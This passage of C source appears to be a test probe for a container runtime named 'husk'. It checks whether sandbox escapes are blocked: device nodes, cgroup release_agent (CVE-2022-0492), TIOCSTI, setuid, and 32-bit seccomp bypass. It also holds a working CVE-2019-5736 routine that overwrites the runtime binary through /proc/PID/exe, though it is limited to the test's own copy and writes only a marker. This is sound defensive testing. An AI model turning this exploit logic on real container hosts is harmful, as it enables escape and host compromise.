check_block_device(struct outcome *mk, struct outcome *op)
{
    static const char path[] = "/dev/.husk-probe-blk";
    dev_t dev = root_disk();
    int fd;

    snprintf(mk->detail, sizeof(mk->detail), "%u:%u", major(dev), minor(dev));
    snprintf(op->detail, sizeof(op->detail), "%u:%u", major(dev), minor(dev));
    unlink(path);
    outcome_rc(mk, mknod(path, S_IFBLK | 0600, dev), NULL);
    if (!mk->reached) {
        op->err = mk->err;
        return;
    }
    fd = open(path, O_RDONLY | O_CLOEXEC);
    outcome_rc(op, fd, NULL);
    if (fd >= 0)
        close(fd);
    unlink(path);
}

static void
check_mknod_block(struct outcome *o)
{
    struct outcome ignored = {.size = -1};

    check_block_device(o, &ignored);
}

static void
check_open_block(struct outcome *o)
{
    struct outcome mk = {.size = -1};

    check_block_device(&mk, o);
}

static void
check_chown(struct outcome *o)
{
    char path[64];
    int fd;

    snprintf(path, sizeof(path), "/dev/shm/.husk-probe-chown-%d", getpid());
    fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
    if (fd < 0) {
        o->err = errno;
        snprintf(o->detail, sizeof(o->detail), "cannot create %s", path);
        return;
    }
    outcome_rc(o, fchown(fd, 1000, 1000), NULL);
    close(fd);
    unlink(path);
}

/* CVE-2022-0492: release_agent opened for writing (never written) in every hierarchy. */
static void
check_release_agent(struct outcome *o)
{
    DIR *d = opendir("/sys/fs/cgroup");
    struct dirent *e;
    char path[PATH_MAX];
    struct stat st;

    o->err = ENOENT;
    o->size = 0;
    while (d && (e = readdir(d)) != NULL) {
        int fd;

        if (e->d_name[0] == '.')
            continue;
        snprintf(path, sizeof(path), "/sys/fs/cgroup/%s/release_agent", e->d_name);
        if (lstat(path, &st) < 0)
            continue;
        o->size++;
        fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd >= 0) {
            close(fd);
            o->reached = 1;
            o->err = 0;
            snprintf(o->detail, sizeof(o->detail), "%s", path);
            break;
        }
        o->err = errno;
        snprintf(o->detail, sizeof(o->detail), "%s", path);
    }
    if (d)
        closedir(d);
}

/* A new cgroup next to the container's own, removed at once if it could be made. */
static void
check_cgroup_mkdir(struct outcome *o)
{
    char path[PATH_MAX];
    struct stat st;

    snprintf(path, sizeof(path), "/sys/fs/cgroup/%s/husk-probe-%d",
             stat("/sys/fs/cgroup/memory", &st) == 0 ? "memory" : ".", getpid());
    snprintf(o->detail, sizeof(o->detail), "%s", path);
    outcome_rc(o, mkdir(path, 0755), NULL);
    if (o->reached)
        rmdir(path);
}

static const struct {
    const char *name;
    void (*run)(struct outcome *);
} security_checks[] = {
    {"read_kcore", check_read_kcore},
    {"read_keys", check_read_keys},
    {"read_timer_list", check_read_timer_list},
    {"read_sched_debug", check_read_sched_debug},
    {"list_sys_firmware", check_list_sys_firmware},
    {"list_proc_acpi", check_list_proc_acpi},
    {"list_proc_scsi", check_list_proc_scsi},
    {"write_proc_sys", check_write_proc_sys},
    {"open_sysrq_trigger", check_open_sysrq_trigger},
    {"create_in_root", check_create_in_root},
    {"mount_tmpfs", check_mount_tmpfs},
    {"umount", check_umount},
    {"keyctl", check_keyctl},
    {"add_key", check_add_key},
    {"request_key", check_request_key},
    {"ptrace_traceme", check_ptrace_traceme},
    {"unshare_user", check_unshare_user},
    {"unshare_mount", check_unshare_mount},
    {"setns", check_setns},
    {"chroot", check_chroot},
    {"clone_newnet", check_clone_newnet},
    {"clone3", check_clone3},
    {"bpf", check_bpf},
    {"perf_event_open", check_perf_event_open},
    {"userfaultfd", check_userfaultfd},
    {"io_uring_setup", check_io_uring_setup},
    {"open_by_handle_at", check_open_by_handle_at},
    {"kexec_load", check_kexec_load},
    {"init_module", check_init_module},
    {"reboot", check_reboot},
    {"socket_vsock", check_socket_vsock},
    {"socketcall_vsock", check_socketcall_vsock},
    {"socket32_vsock", check_socket32_vsock},
    {"personality", check_personality},
    {"raw_socket", check_raw_socket},
    {"mknod_block", check_mknod_block},
    {"open_block", check_open_block},
    {"chown", check_chown},
    {"release_agent", check_release_agent},
    {"cgroup_mkdir", check_cgroup_mkdir},
};

/* The /proc/self/status lines a security test wants, verbatim. */
static void
report_security_status(void)
{
    static const char *const wanted[] = {"CapInh",  "CapPrm",          "CapEff",
                                         "CapBnd",  "CapAmb",          "NoNewPrivs",
                                         "Seccomp", "Seccomp_filters", "Uid"};
    char buf[8192];

    obj_begin("status");
    if (read_small_file("/proc/self/status", buf, sizeof(buf)) >= 0) {
        for (char *line = strtok(buf, "\n"); line; line = strtok(NULL, "\n")) {
            char *colon = strchr(line, ':');
            if (colon == NULL)
                continue;
            *colon = '\0';
            for (size_t i = 0; i < sizeof(wanted) / sizeof(wanted[0]); i++)
                if (strcmp(line, wanted[i]) == 0)
                    kv_str(line, colon + 1 + strspn(colon + 1, " \t"));
        }
    }
    obj_end();
}

static int
cmd_security(int argc, char **argv)
{
    int unknown = 0;

    for (int i = 0; i < argc; i++) {
        size_t k;
        for (k = 0; k < sizeof(security_checks) / sizeof(security_checks[0]); k++)
            if (strcmp(argv[i], security_checks[k].name) == 0)
                break;
        if (k == sizeof(security_checks) / sizeof(security_checks[0])) {
            fprintf(stderr, "probe: unknown security check '%s'\n", argv[i]);
            unknown = 1;
        }
    }
    if (unknown)
        return 2;
    obj_begin(NULL);
    for (size_t k = 0; k < sizeof(security_checks) / sizeof(security_checks[0]); k++) {
        struct outcome o = {.size = -1};
        int wanted = argc == 0;

        for (int i = 0; i < argc; i++)
            wanted |= strcmp(argv[i], security_checks[k].name) == 0;
        if (!wanted)
            continue;
        fflush(stdout); /* nothing buffered may be written twice by a forked child */
        security_checks[k].run(&o);
        obj_begin(security_checks[k].name);
        kv_bool("blocked", !o.reached);
        kv_int("errno", o.err);
        if (o.size >= 0)
            kv_int("size", o.size);
        if (o.detail[0])
            kv_str("detail", o.detail);
        obj_end();
    }
    report_security_status();
    obj_end();
    putchar('\n');
    return 0;
}

/* ---- identity, setuid, seccomp argument filters, TCP ports ---- */

static int
cmd_ids(void)
{
    obj_begin(NULL);
    kv_int("uid", getuid());
    kv_int("euid", geteuid());
    kv_int("gid", getgid());
    kv_int("egid", getegid());
    obj_end();
    putchar('\n');
    return 0;
}

/*
 * Execs a setuid-root program (a copy of this probe) with "ids" and reports the euid it ran
 * with: 0 for a caller that is not root means the setuid bit raised its privileges.
 */
static int
cmd_setuid_check(const char *path)
{
    char buf[256] = "";
    int p[2], status = 0, err = 0;
    long euid = -1;
    ssize_t n = 0;
    pid_t pid;

    fflush(stdout);
    if (pipe2(p, O_CLOEXEC) < 0)
        return 1;
    pid = fork();
    if (pid == 0) {
        dup2(p[1], STDOUT_FILENO);
        execl(path, path, "ids", (char *)NULL);
        fprintf(stderr, "probe: exec %s: %s\n", path, strerror(errno));
        _exit(127);
    }
    close(p[1]);
    if (pid < 0)
        err = errno;
    while (pid > 0 && (size_t)n < sizeof(buf) - 1) {
        ssize_t k = read(p[0], buf + n, sizeof(buf) - 1 - (size_t)n);
        if (k <= 0)
            break;
        n += k;
    }
    buf[n] = '\0';
    close(p[0]);
    if (pid > 0)
        while (waitpid(pid, &status, 0) < 0 && errno == EINTR)
            ;
    const char *e = strstr(buf, "\"euid\":");
    if (e)
        euid = strtol(e + 7, NULL, 10);
    else if (!err)
        err = ENOEXEC;
    obj_begin(NULL);
    kv_int("uid", getuid());
    kv_int("euid", geteuid());
    kv_int("exec_euid", euid);
    kv_bool("blocked", euid != 0);
    kv_int("errno", err);
    obj_end();
    putchar('\n');
    return 0;
}

/* getpriority(WHICH, WHO) for each "WHICH:WHO": a harmless syscall whose two arguments a
 * seccomp rule can compare. */
static int
cmd_getpriority(int argc, char **argv)
{
    obj_begin(NULL);
    arr_begin("results");
    for (int i = 0; i < argc; i++) {
        long which = 0, who = 0, r;
        if (sscanf(argv[i], "%ld:%ld", &which, &who) != 2) {
            fprintf(stderr, "probe: '%s' is not WHICH:WHO\n", argv[i]);
            return 2;
        }
        errno = 0;
        r = syscall(SYS_getpriority, which, who);
        obj_begin(NULL);
        kv_int("which", which);
        kv_int("who", who);
        kv_int("ret", r);
        kv_int("errno", r < 0 ? errno : 0);
        obj_end();
    }
    arr_end();
    obj_end();
    putchar('\n');
    return 0;
}

/* getpriority through the 32-bit entry point (int $0x80, i386 number 96): seccomp sees it as
 * AUDIT_ARCH_I386, so only a filter with that architecture has rules for it. */
static int
cmd_getpriority32(const char *which_s, const char *who_s)
{
#if defined(__x86_64__)
    long which = atol(which_s), who = atol(who_s), r;

    fflush(stdout);
    __asm__ volatile("int $0x80" : "=a"(r) : "a"(96L), "b"(which), "c"(who) : "memory");
    obj_begin(NULL);
    kv_int("ret", r < 0 && r > -4096 ? -1 : r);
    kv_int("errno", r < 0 && r > -4096 ? -r : 0);
    obj_end();
    putchar('\n');
    return 0;
#else
    (void)which_s;
    (void)who_s;
    fprintf(stderr, "probe: getpriority32 needs x86_64\n");
    return 2;
#endif
}

/* Whether we have a controlling terminal, and whether TIOCSTI lets us push input into the
 * terminal on fd 0 (a NUL byte: the tests give us a pty of their own). */
static int
cmd_tty(void)
{
    char nul = 0;
    int fd = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
    int ctty = fd >= 0, sti = ioctl(0, TIOCSTI, &nul), err = sti < 0 ? errno : 0;

    if (fd >= 0)
        close(fd);
    obj_begin(NULL);
    kv_int("pid", getpid());
    kv_int("sid", getsid(0));
    kv_int("pgid", getpgid(0));
    kv_bool("ctty", ctty);
    obj_begin("tiocsti");
    kv_bool("ok", sti == 0);
    kv_int("errno", err);
    obj_end();
    obj_end();
    putchar('\n');
    return 0;
}

/* One connect/send towards ADDR:PORT, or the creation of a raw or ICMP socket. */
static int
cmd_net(const char *kind, const char *addr, const char *port)
{
    struct sockaddr_storage ss = {0};
    struct sockaddr_in *s4 = (struct sockaddr_in *)&ss;
    struct sockaddr_in6 *s6 = (struct sockaddr_in6 *)&ss;
    socklen_t len = sizeof(*s4);
    int family = AF_INET, fd, r = -1, err = 0;
    struct timespec t0, t1;
    struct timeval tv = {.tv_sec = 3};

    if (inet_pton(AF_INET, addr, &s4->sin_addr) == 1) {
        s4->sin_family = AF_INET;
        s4->sin_port = htons((uint16_t)atoi(port));
    } else if (inet_pton(AF_INET6, addr, &s6->sin6_addr) == 1) {
        family = s6->sin6_family = AF_INET6;
        s6->sin6_port = htons((uint16_t)atoi(port));
        len = sizeof(*s6);
    } else {
        fprintf(stderr, "probe: net: bad address %s\n", addr);
        return 2;
    }
    clock_gettime(CLOCK_MONOTONIC, &t0);
    if (strcmp(kind, "raw") == 0)
        fd = socket(family, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
    else if (strcmp(kind, "ping") == 0)
        fd = socket(family, SOCK_DGRAM | SOCK_CLOEXEC,
                    family == AF_INET ? IPPROTO_ICMP : IPPROTO_ICMPV6);
    else
        fd =
            socket(family, (strcmp(kind, "tcp") == 0 ? SOCK_STREAM : SOCK_DGRAM) | SOCK_CLOEXEC, 0);
    if (fd >= 0) {
        setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
        if (strcmp(kind, "raw") == 0 || strcmp(kind, "ping") == 0)
            r = 0;
        else if (strcmp(kind, "udp") == 0)
            r = sendto(fd, "x", 1, 0, (struct sockaddr *)&ss, len) == 1 ? 0 : -1;
        else if ((r = connect(fd, (struct sockaddr *)&ss, len)) == 0 && strcmp(kind, "tcp"))
            r = send(fd, "x", 1, 0) == 1 ? 0 : -1;
    }
    if (fd < 0 || r < 0)
        err = errno;
    clock_gettime(CLOCK_MONOTONIC, &t1);
    if (fd >= 0)
        close(fd);
    obj_begin(NULL);
    kv_bool("ok", fd >= 0 && r == 0);
    kv_int("errno", err);
    kv_int("ms", (t1.tv_sec - t0.tv_sec) * 1000 + (t1.tv_nsec - t0.tv_nsec) / 1000000);
    obj_end();
    putchar('\n');
    return 0;
}

/* bind(0.0.0.0:PORT) or connect(127.0.0.1:PORT) over TCP. */
static int
cmd_tcp(const char *what, const char *port)
{
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port))};
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), r, err = 0;

    if (strcmp(what, "bind") == 0) {
        sa.sin_addr.s_addr = htonl(INADDR_ANY);
        r = fd < 0 ? -1 : bind(fd, (struct sockaddr *)&sa, sizeof(sa));
    } else {
        sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        r = fd < 0 ? -1 : connect(fd, (struct sockaddr *)&sa, sizeof(sa));
    }
    if (r < 0)
        err = errno;
    if (fd >= 0)
        close(fd);
    obj_begin(NULL);
    kv_bool("ok", r == 0);
    kv_int("errno", err);
    obj_end();
    putchar('\n');
    return 0;
}

/* ---- CVE-2019-5736: overwrite the runtime through /proc/PID/exe ---- */

static int
read_comm(pid_t pid, char *buf, size_t len)
{
    char path[64];

    snprintf(path, sizeof(path), "/proc/%d/comm", pid);
    if (read_small_file(path, buf, len) < 0)
        return -1;
    chomp(buf);
    return 0;
}

/* A runtime process in our pid namespace: one running the binary with inode INODE, one whose
 * comm is "husk", or one whose exe we may not even read (a non-dumpable process). */
static pid_t
find_runtime(unsigned long long inode)
{
    DIR *d = opendir("/proc");
    struct dirent *e;
    pid_t found = 0;

    while (d && !found && (e = readdir(d)) != NULL) {
        char *end, comm[64], path[64], target[PATH_MAX];
        long pid = strtol(e->d_name, &end, 10);
        struct stat st;

        if (*end || pid <= 0 || pid == getpid() || read_comm((pid_t)pid, comm, sizeof(comm)) < 0)
            continue;
        snprintf(path, sizeof(path), "/proc/%ld/exe", pid);
        if (strcmp(comm, "husk") == 0 || (stat(path, &st) == 0 && st.st_ino == inode) ||
            (readlink(path, target, sizeof(target)) < 0 && errno == EACCES))
            found = (pid_t)pid;
    }
    if (d)
        closedir(d);
    return found;
}

static void
kv_open(const char *key, int fd, int err)
{
    obj_begin(key);
    kv_bool("ok", fd >= 0);
    kv_int("errno", fd >= 0 ? 0 : err);
    obj_end();
}

static int
fd_inode_is(int fd, unsigned long long inode)
{
    struct stat st;

    return fd >= 0 && fstat(fd, &st) == 0 && st.st_ino == inode;
}

static double
now(void)
{
    struct timespec ts;

    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/*
 * probe exe-attack INODE SECONDS: the CVE-2019-5736 exploit, from a container that shares its
 * pid namespace with a runtime process. Three JSON lines:
 *  1. waits up to SECONDS for that process (see find_runtime), then opens its /proc/PID/exe
 *     for writing, for reading and as O_PATH;
 *  2. unless that O_PATH fd already names the runtime's binary, spins on opening it again as
 *     O_PATH until that succeeds or the process is gone: the moment after the runtime exec'd
 *     the container's program, which is when an interpreter "#!/proc/self/exe" would make it
 *     run the runtime's own binary again, now dumpable;
 *  3. with an fd on the runtime's binary, reopens it for writing through /proc/self/fd, retrying
 *     while a runtime process still runs it (ETXTBSY), and writes a marker at its start.
 * Nothing is ever written to a file but one with inode INODE: the test's copy of the runtime.
 */
static int
cmd_exe_attack(const char *inode_s, const char *seconds)
{
    unsigned long long inode = strtoull(inode_s, NULL, 10);
    double deadline = now() + strtod(seconds, NULL);
    struct timespec tick = {0, 5 * 1000 * 1000};
    char path[64], target[PATH_MAX], comm[64] = "";
    int wfd, rfd, pfd, werr, rerr, perr, lerr, grabbed, fd, err = 0;
    pid_t pid = 0;
    ssize_t n;

    while (!pid && now() < deadline) {
        pid = find_runtime(inode);
        if (!pid)
            nanosleep(&tick, NULL);
    }
    obj_begin(NULL);
    kv_int("pid", pid);
    if (!pid) {
        obj_end();
        end_line();
        return 1;
    }
    read_comm(pid, comm, sizeof(comm));
    kv_str("comm", comm);
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    n = readlink(path, target, sizeof(target) - 1);
    lerr = errno;
    target[n < 0 ? 0 : n] = '\0';
    wfd = open(path, O_WRONLY | O_CLOEXEC);
    werr = errno;
    rfd = open(path, O_RDONLY | O_CLOEXEC);
    rerr = errno;
    pfd = open(path, O_PATH | O_CLOEXEC);
    perr = errno;
    obj_begin("readlink");
    kv_bool("ok", n >= 0);
    kv_int("errno", n >= 0 ? 0 : lerr);
    kv_str("target", target);
    obj_end();
    kv_open("open_write", wfd, werr);
    kv_open("open_read", rfd, rerr);
    kv_open("open_path", pfd, perr);
    grabbed = fd_inode_is(pfd, inode);
    kv_bool("grabbed", grabbed);
    obj_end();
    end_line();
    fflush(stdout);
    if (wfd >= 0)
        close(wfd);
    if (rfd >= 0)
        close(rfd);

    obj_begin(NULL);
    if (!grabbed) {
        if (pfd >= 0)
            close(pfd);
        pfd = -1;
        while (pfd < 0 && now() < deadline) {
            pfd = open(path, O_PATH | O_CLOEXEC);
            perr = errno;
            if (pfd < 0 && (perr == ENOENT || perr == ESRCH))
                break; /* gone (or a zombie): nothing left to open */
        }
        grabbed = fd_inode_is(pfd, inode);
        kv_open("open_path", pfd, perr);
    }
    read_comm(pid, comm, sizeof(comm));
    kv_str("comm", comm);
    kv_bool("grabbed", grabbed);
    obj_end();
    end_line();
    fflush(stdout);

    obj_begin(NULL);
    if (grabbed) {
        snprintf(path, sizeof(path), "/proc/self/fd/%d", pfd);
        do {
            fd = open(path, O_WRONLY | O_CLOEXEC);
            err = errno;
            if (fd >= 0 || err != ETXTBSY)
                break;
            nanosleep(&tick, NULL);
        } while (now() < deadline);
        kv_open("reopen_write", fd, err);
        if (fd >= 0 && fd_inode_is(fd, inode)) {
            static const char marker[] = "HUSK-IT-CVE-2019-5736";
            kv_bool("written", pwrite(fd, marker, sizeof(marker) - 1, 0) > 0);
        }
        if (fd >= 0)
            close(fd);
    }
    if (pfd >= 0)
        close(pfd);
    kv_bool("done", 1);
    obj_end();
    end_line();
    return 0;
}

int
main(int argc, char **argv)
{
    const char *cmd = argc > 1 ? argv[1] : "info";
    const char *arg = argc > 2 ? argv[2] : NULL;
    int rc;

    if (strcmp(cmd, "info") == 0)
        rc = cmd_info(argv);
    else if (arg && strcmp(cmd, "sysctl") == 0)
        rc = cmd_sysctl(arg);
    else if (arg && strcmp(cmd, "write") == 0)
        rc = cmd_write(arg);
    else if (arg && strcmp(cmd, "read") == 0)
        rc = cmd_read(arg);
    else if (arg && strcmp(cmd, "stat") == 0)
        rc = cmd_stat(arg);
    else if (arg && strcmp(cmd, "exit") == 0)
        rc = atoi(arg);
    else if (arg && strcmp(cmd, "kill-self") == 0)
        rc = cmd_kill_self(arg);
    else if (arg && strcmp(cmd, "sleep") == 0)
        rc = cmd_sleep(arg);
    else if (strcmp(cmd, "security") == 0)
        rc = cmd_security(argc - 2, argv + 2);
    else if (strcmp(cmd, "ids") == 0)
        rc = cmd_ids();
    else if (arg && strcmp(cmd, "setuid-check") == 0)
        rc = cmd_setuid_check(arg);
    else if (strcmp(cmd, "getpriority") == 0)
        rc = cmd_getpriority(argc - 2, argv + 2);
    else if (argc > 3 && strcmp(cmd, "getpriority32") == 0)
        rc = cmd_getpriority32(argv[2], argv[3]);
    else if (strcmp(cmd, "tty") == 0)
        rc = cmd_tty();
    else if (arg && (strcmp(cmd, "bind") == 0 || strcmp(cmd, "connect") == 0))
        rc = cmd_tcp(cmd, arg);
    else if (argc > 4 && strcmp(cmd, "net") == 0)
        rc = cmd_net(argv[2], argv[3], argv[4]);
    else if (argc > 3 && strcmp(cmd, "exe-attack") == 0)
        rc = cmd_exe_attack(argv[2], argv[3]);
    else {
        fprintf(stderr, "usage: probe [info|sysctl NAME|write PATH|read PATH|stat PATH|exit N|"
                        "kill-self SIGNAL|sleep SECONDS|security [CHECK...]|ids|"
                        "setuid-check PATH|getpriority WHICH:WHO...|getpriority32 WHICH WHO|"
                        "bind PORT|connect PORT|net KIND ADDR PORT|exe-attack INODE SECONDS]\n");
        return 2;
    }
    fflush(stdout);
    return rc;
}
